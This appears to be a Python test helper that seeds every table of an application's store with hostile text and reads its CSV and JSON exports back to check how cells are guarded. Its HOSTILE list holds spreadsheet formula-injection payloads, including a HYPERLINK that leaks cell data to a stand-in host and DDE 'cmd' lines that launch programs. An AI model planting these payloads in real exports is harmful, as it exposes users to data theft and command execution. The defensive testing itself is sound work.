"""Fills every table of a store with hostile text, and reads an export back as plain rows."""

from __future__ import annotations

import csv
import json
from collections.abc import Mapping
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from sqlalchemy.orm import Session

from showroom.bootstrap import Showroom
from showroom.documents.cell_guard import unescaped, unguarded
from showroom.exporting.service import ExportOrder
from showroom.exporting.tables import NOT_EXPORTED
from showroom.kernel.actor import Role
from showroom.kernel.money import Money
from showroom.persistence.audit import AuditEntry
from showroom.persistence.columns import Moment, MoneyColumn, PersonalImage, Word
from showroom.persistence.mapped import load_models
from showroom.persistence.orm import Model
from tests.store_fixtures import by_owner

BOSS = frozenset({Role.ADMINISTRATOR, Role.SALES_MANAGER, Role.GENERAL_MANAGER})
REASON = "年终把数据搬到总部系统"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", "''@x", "'plain", '",=1\r\n=2,"', "line\nbreak", "a\r\nb", "a\rb",
    "\x01\x02 \x1f",     "_x0041_ _x", "<r><t>x</t></r>", '<r></is></c><c r="Z9"><f>1+1</f></c><c r="Y9"><is></r>',
    "]]>&<x/>", "\ufffe\uffff",
    "张𬱖 李䶮 👩‍👧", "1E5", "00123", "TRUE", "2026-11-22", "http://x.example", "  blank  ", "" , "#REF!", "{=1}",
    "x" * 40_000, "汉" * 33_000, "𬱖" * 17_000,
)  # fmt: skip
FIRST = 101  # above whatever the store holds already
SKIPPED = NOT_EXPORTED | {"parameter", "store", "audit_entry", "alembic_version"}


def fill(store: Showroom, texts: tuple[str, ...] = HOSTILE) -> None:
    """One row per text in every table, the text in each of its text columns, numbers referring to the same row."""
    load_models()
    with by_owner(store) as session:
        _without_rules(session)
        for table in Model.metadata.sorted_tables:
            if table.name in SKIPPED:
                continue
            rows = [_row(table, FIRST + place, text) for place, text in enumerate(texts)]
            session.execute(sa.insert(table), rows)


def _without_rules(session: Session) -> None:
    """Take the store's own checks away: what is tested is that rows of every kind come out."""
    if session.get_bind().dialect.name == "postgresql":
        session.execute(sa.text("SET LOCAL session_replication_role = replica"))
        checks = session.execute(sa.text(_CHECKS)).all()
        for table, name in checks:
            session.execute(sa.text(f'ALTER TABLE {table} DROP CONSTRAINT "{name}"'))
        return
    session.execute(sa.text("PRAGMA ignore_check_constraints = ON"))
    for name in session.scalars(sa.text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all():
        session.execute(sa.text(f"DROP TRIGGER {name}"))


_CHECKS = (
    "SELECT conrelid::regclass::text, conname FROM pg_constraint WHERE contype IN ('c', 'x') AND conrelid <> 0"
    " AND connamespace = 'public'::regnamespace"
)


def _row(table: sa.Table, number: int, text: str) -> dict[str, Any]:
    unique = {column.name for key in table.constraints for column in _unique(key)}
    unique |= {column.name for index in table.indexes if index.unique for column in index.columns}
    return {column.name: _value(column, number, text, unique=column.name in unique) for column in table.columns}


def _unique(constraint: sa.Constraint) -> tuple[sa.Column[Any], ...]:
    return tuple(constraint.columns) if isinstance(constraint, (sa.UniqueConstraint, sa.PrimaryKeyConstraint)) else ()


def _value(column: sa.Column[Any], number: int, text: str, *, unique: bool) -> Any:  # noqa: PLR0911 - one per type
    kind = column.type
    if column.primary_key and column.name == "id":
        return number
    if column.foreign_keys:
        other = next(iter(column.foreign_keys)).column.table
        return number if other.name != "store" else 1
    if isinstance(kind, Word):
        words: Any = kind.words
        return list(words)[number % len(words)]
    if isinstance(kind, MoneyColumn):
        return Money(number * 101)
    if isinstance(kind, Moment):
        return datetime.fromisoformat("2026-11-22T02:03:04.567891+00:00") + timedelta(days=number)
    if isinstance(kind, (PersonalImage, sa.LargeBinary)):
        return b"\x89PNG" + bytes([number % 256])
    if isinstance(kind, sa.Boolean):
        return number % 2 == 0
    if isinstance(kind, sa.Date):
        return date(2026, 11, 22) + timedelta(days=number)
    if isinstance(kind, (sa.Integer, sa.Numeric, sa.Float)):
        return number
    length = getattr(kind, "length", None) or (64 if "Personal" in type(kind).__name__ else 100_000)
    return f"{number}{text}"[:length] if unique else text[:length]


def stored(store: Showroom, table: str) -> list[Mapping[str, Any]]:
    """The rows of a table as they stand, in the order of the key."""
    found = Model.metadata.tables[table]
    with store.work.db.read() as session:
        rows = session.execute(sa.select(found).order_by(*found.primary_key))
        return [dict(row) for row in rows.mappings()]


def csv_rows(folder: Path, table: str) -> list[list[str]]:
    """All lines of a CSV file without the headings, as they were before they were made safe."""
    with (folder / "csv" / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return [[unescaped(unguarded(cell)) for cell in row] for row in csv.reader(file)][1:]


def json_rows(folder: Path, table: str) -> list[dict[str, Any]]:
    """All objects of a JSON Lines file."""
    with (folder / "json" / f"{table}.jsonl").open(encoding="utf-8", newline="\n") as file:
        return [json.loads(line) for line in file]


def revealed(folder: Path, **more: Any) -> ExportOrder:
    """An order for everything in full."""
    return ExportOrder(folder, reveal=True, reason=REASON, **more)


def audit_facts(store: Showroom) -> list[dict[str, Any]]:
    """What the audit says of exports, oldest first."""
    with store.work.db.read() as session:
        query = sa.select(AuditEntry.facts).where(AuditEntry.object_kind == "export").order_by(AuditEntry.seq)
        return [json.loads(facts) for facts in session.scalars(query)]
